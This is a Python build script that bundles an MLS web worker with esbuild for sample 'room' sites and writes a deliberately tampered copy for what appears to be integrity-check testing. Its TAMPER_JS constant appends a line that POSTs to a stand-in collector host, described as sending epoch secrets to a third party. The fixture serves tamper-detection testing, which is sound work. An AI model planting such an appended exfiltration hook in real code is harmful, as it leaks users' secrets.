#!/usr/bin/env python3
"""Build the served files of the room sample sites (``web/room``, ``web/tampered-room``).

The room page's sources are committed in ``web/room/src/``: the page (``index.html``,
``room.js``, ``room.css``) and the MLS worker (``mls-worker.js``, which imports npm
``ts-mls`` and ``committer.js``). Its npm packages are pinned exactly in
``web/room/package.json`` / ``package-lock.json`` (``ts-mls``, and ``esbuild``, the bundler).
This script, run by ``scripts/setup.sh`` after ``web/generate.py``:

1. ``npm ci`` in ``web/room`` when its lock file changed (a stamp in node_modules);
2. bundles the worker with esbuild into one classic script (IIFE, no eval, no source map),
   ``web/<site>/public/mls-worker.js``, and copies the page's files next to it;
3. writes ``web/tampered-room/tamper/mls-worker.js``: the bundle with code appended after
   publishing (what the extension must refuse to run).

``public/`` and ``tamper/`` are build products (ignored by git, like every sample site's);
``site.json`` and ``expected.json`` come from ``web/generate.py``. Idempotent: unchanged
files are not rewritten. ``--check`` exits 1 if a built file is missing or stale.
"""

from __future__ import annotations

import argparse
import hashlib
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
ROOM = ROOT / "web" / "room"
SRC = ROOM / "src"
SITES = ("room", "tampered-room")
PAGE_FILES = ("index.html", "room.js", "room.css")
WORKER = "mls-worker.js"
ESBUILD_ARGS = (
    "--bundle",
    "--format=iife",
    "--target=chrome120",
    "--platform=browser",
    "--legal-comments=inline",
    "--log-level=warning",
)
TAMPER_JS = b"""
// tampered after publishing: the epoch secrets go to a third party
self.addEventListener("message", () => fetch("https://collector.invalid/", { method: "POST" }));
"""


def say(message: str) -> None:
    print(f"build_room: {message}", flush=True)


def npm_ci() -> None:
    stamp = ROOM / "node_modules" / ".waict-setup-stamp"
    want = hashlib.sha256(
        (ROOM / "package.json").read_bytes() + (ROOM / "package-lock.json").read_bytes()
    ).hexdigest()
    esbuild = ROOM / "node_modules" / ".bin" / "esbuild"
    if stamp.exists() and stamp.read_text().strip() == want and esbuild.exists():
        return
    say("npm ci in web/room (ts-mls, esbuild)")
    subprocess.run(
        ["npm", "ci", "--no-audit", "--no-fund", "--loglevel=error"], cwd=ROOM, check=True
    )
    stamp.write_text(want + "\n")


def bundle() -> bytes:
    esbuild = ROOM / "node_modules" / ".bin" / "esbuild"
    with tempfile.TemporaryDirectory() as tmp:
        out = Path(tmp) / WORKER
        subprocess.run(
            [str(esbuild), str(SRC / WORKER), *ESBUILD_ARGS, f"--outfile={out}"],
            cwd=ROOM,
            check=True,
        )
        return out.read_bytes()


def planned(worker: bytes) -> dict[Path, bytes]:
    files: dict[Path, bytes] = {}
    for site in SITES:
        public = ROOT / "web" / site / "public"
        for name in PAGE_FILES:
            files[public / name] = (SRC / name).read_bytes()
        files[public / WORKER] = worker
    files[ROOT / "web" / "tampered-room" / "tamper" / WORKER] = worker + TAMPER_JS
    return files


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--check", action="store_true", help="exit 1 if a file is stale")
    args = parser.parse_args(argv)
    if shutil.which("npm") is None:
        say("npm is missing: run scripts/setup.sh")
        return 1
    npm_ci()
    worker = bundle()
    stale = []
    for path, data in planned(worker).items():
        if path.exists() and path.read_bytes() == data:
            continue
        stale.append(path)
        if not args.check:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
    for path in stale:
        say(f"{path.relative_to(ROOT)}: {'stale' if args.check else 'written'}")
    say(f"mls-worker.js: {len(worker):,} bytes (ts-mls bundled by esbuild)")
    return 1 if args.check and stale else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
